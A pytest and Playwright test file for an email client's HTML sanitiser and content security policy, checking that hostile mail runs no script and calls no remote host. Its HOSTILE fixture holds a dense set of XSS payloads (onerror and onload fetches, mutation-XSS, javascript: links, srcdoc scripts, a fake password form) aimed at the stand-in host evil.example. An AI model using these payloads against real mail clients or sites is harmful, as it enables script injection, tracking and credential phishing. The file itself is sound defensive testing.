"""Hostile mail runs nothing, calls nobody, and looks like nothing but mail."""

from __future__ import annotations

import base64

import pytest
from playwright.sync_api import Error, expect

from api.mail_view import view
from tests.browser.conftest import Agent
from tests.sending.conftest import Desk

HTML = "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8"
EVIL = "https://evil.example"

HOSTILE = f"""\
<html><head><base href="{EVIL}/"><meta http-equiv="refresh" content="0;url={EVIL}/meta">
<link rel="stylesheet" href="{EVIL}/style.css"><link rel="prefetch" href="{EVIL}/prefetch"><link rel="dns-prefetch" href="{EVIL}">
<style>@import url({EVIL}/import.css); body {{ background: url({EVIL}/body.png) }}
@font-face {{ font-family: x; src: url({EVIL}/f) }}</style>
<script>fetch('{EVIL}/script'); parent.document.title = 'owned'</script></head>
<body background="{EVIL}/background.png" onload="fetch('{EVIL}/onload')" style="background-image: url({EVIL}/inline.png)">
<p style="position: fixed; inset: 0; background: url('{EVIL}/p.png')">A harmless sentence.</p>
<img src="{EVIL}/pixel.png" width=1 height=1><img src=x onerror="fetch('{EVIL}/onerror')"><img srcset="{EVIL}/set.png 1x">
<img src="//evil.example/scheme.png"><picture><source srcset="{EVIL}/source.png"><img src="{EVIL}/picture.png"></picture>
<svg onload="fetch('{EVIL}/svg')"><image href="{EVIL}/image.png"/><script>fetch('{EVIL}/svgscript')</script></svg>
<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=1 onerror=fetch('{EVIL}/mxss')&gt;"></table></mtext></math>
<video src="{EVIL}/v.mp4" poster="{EVIL}/poster.png" autoplay></video><audio src="{EVIL}/a.mp3" autoplay></audio>
<iframe src="{EVIL}/frame"></iframe><iframe srcdoc="<script>fetch('{EVIL}/srcdoc')</script>"></iframe>
<object data="{EVIL}/object"></object><embed src="{EVIL}/embed">
<form action="{EVIL}/form"><input name=password autofocus onfocus="fetch('{EVIL}/focus')"><button>Log in again</button></form>
<a href="javascript:fetch('{EVIL}/href')">click me</a> <a href="{EVIL}/link" ping="{EVIL}/ping">a link</a>
<table background="{EVIL}/table.png"><tr><td background="{EVIL}/td.png">cell</td></tr></table>
<input type=image src="{EVIL}/input.png"><div id="page"></div><details ontoggle="fetch('{EVIL}/toggle')" open>x</details>
</body></html>"""


def test_hostile_html_runs_nothing_and_calls_nobody(agent: Agent, desk: Desk) -> None:
    desk.ticket(subject="Hello friend", more=HTML, body=HOSTILE.replace("\n", "\r\n"))
    agent.log_in()
    agent.open("Hello friend")
    frame = agent.page.frame_locator(".mail iframe")
    expect(frame.get_by_text("A harmless sentence.")).to_be_visible()
    expect(agent.page.get_by_role("button", name="Show images")).to_be_visible()
    frame.get_by_text("click me").click()
    agent.page.wait_for_load_state("networkidle")
    assert agent.calls == []
    assert agent.page.title() == "Hello friend · InboxOps"
    left = frame.locator("script, iframe, form, input, object, embed, video, audio, svg, link, base, meta[http-equiv]")
    expect(left).to_have_count(0)


def test_remote_images_are_loaded_when_they_are_asked_for(agent: Agent, desk: Desk) -> None:
    body = f"<p>Our new chair</p><img alt=chair src='{EVIL}/chair.png'><script src='{EVIL}/x.js'></script>"
    desk.ticket(subject="Newsletter", more=HTML, body=body)
    agent.page.context.route(f"{EVIL}/**", lambda route: route.abort())
    agent.log_in()
    agent.open("Newsletter")
    agent.page.get_by_role("button", name="Show images").click()
    expect(agent.page.frame_locator(".mail iframe").get_by_alt_text("chair")).to_have_attribute(
        "src", f"{EVIL}/chair.png"
    )
    agent.page.wait_for_load_state("networkidle")
    assert agent.calls == [f"{EVIL}/chair.png"]


def test_inline_images_are_shown_from_here(agent: Agent, desk: Desk) -> None:
    pixel = base64.b64encode(
        base64.b64decode(
            "iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAABLbSncAAAAEUlEQVR42mPQqr+CFTEMLQkADXNfQdqiNccAAAAASUVORK5CYII="
        )
    ).decode()
    related = 'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"'
    body = (
        "--b\r\nContent-Type: text/html\r\n\r\n<p>Look: <img alt=logo src='cid:logo@x'></p>\r\n--b\r\nContent-Type: image/png\r\n"
        'Content-ID: <logo@x>\r\nContent-Disposition: inline; filename="logo.png"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        f"{pixel}\r\n--b--"
    )
    desk.ticket(subject="Our logo", more=related, body=body)
    agent.log_in()
    agent.open("Our logo")
    image = agent.page.frame_locator(".mail iframe").get_by_alt_text("logo")
    expect(image).to_be_visible()
    assert image.evaluate("image => image.decode().then(() => image.naturalWidth)") == 8
    expect(agent.page.locator(".files .file")).to_have_count(0)
    assert agent.calls == []


def test_the_page_itself_allows_no_script_but_its_own(agent: Agent, url: str) -> None:
    agent.log_in()
    policy = agent.page.request.get(url).headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    assert "http" not in policy.replace("https:", "http")
    for injected in (
        "document.body.innerHTML = '<img src=x onerror=owned=1>'",
        "document.head.appendChild(document.createElement('script')).src = '/static/page.js'",
        "document.body.setAttribute('onclick', 'owned=1')",
    ):
        with pytest.raises(Error, match="requires 'Trusted"):
            agent.page.evaluate(injected)


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ("<p style='color: red; position: absolute; background: url(x)'>a</p>", '<p style="color:red">a</p>'),
        ("<img src='cid:one'>", '<img src="/v1/attachments/7/content">'),
        ("<img src='cid:other'>", "<img>"),
        ("<img src='/v1/attachments/8/content'>", "<img>"),
        ("<img src='data:image/svg+xml,<svg/>'>", "<img>"),
        ("<p>new</p><blockquote>old<blockquote>older</blockquote></blockquote>",
         "<p>new</p><details><summary title='Quoted text'>•••</summary>"
         "<blockquote>old<blockquote>older</blockquote></blockquote></details>"),
        ("<blockquote>all there is</blockquote>", "<blockquote>all there is</blockquote>"),
        ("{braces} <b>stay</b>", "{braces} <b>stay</b>"),
    ],
)  # fmt: skip
def test_what_is_kept_of_html(html: str, kept: str) -> None:
    shown = view(html, {"one": "/v1/attachments/7/content"}, with_remote=False)
    assert shown.html.partition("<body>")[2].partition("</body>")[0] == kept


def test_a_deep_pile_of_quotations_is_read_in_time() -> None:
    assert "<details>" in view("<p>x</p>" + "<blockquote>" * 5000 + "deep", {}, with_remote=False).html
